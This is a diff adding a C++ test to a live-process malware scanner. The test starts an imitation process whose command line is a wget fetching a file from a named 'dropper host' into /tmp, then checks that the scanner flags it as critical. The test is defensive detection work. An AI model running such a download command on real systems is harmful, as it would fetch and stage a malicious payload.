@@ -86,6 +86,22 @@ TEST(LiveScanTest, SeedZeroMinerIsCriticalWithAncestryAndPoolConnection) {
   EXPECT_TRUE(FindingsOf(scan, "proc.miner", fmt::format("pid {} ", node.pid())).empty());
 }
 
+// Seed 000's download, while it runs: a wget naming the dropper host, started
+// by the app. (An imitation: it never resolves or contacts the host.)
+TEST(LiveScanTest, DownloadFromSeedDropperHostIsCritical) {
+  TempDir dir;
+  const std::string ready = dir / "ready";
+  CopyTool("imitation_miner", dir / "wget");
+  Child wget(dir / "wget", {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"},
+             {{"IMITATION_READY", ready}});
+  ASSERT_TRUE(WaitForFile(ready));
+  const auto scan = ScanJson({"--only", "processes"});
+  const auto f = FindingsOf(scan, "proc.ioc-cmdline", fmt::format("pid {} ", wget.pid()));
+  ASSERT_EQ(f.size(), 1u) << scan.dump(2);
+  EXPECT_EQ(f[0]["severity"], "critical");
+  EXPECT_EQ(f[0]["evidence"]["ioc_host"], "accrochezvous.fr");
+}
+
 // A miner that only says where it mines, and one weak hint: graded, not inflated.
 TEST(LiveScanTest, WeakHintsStayBelowHigh) {
   TempDir dir;
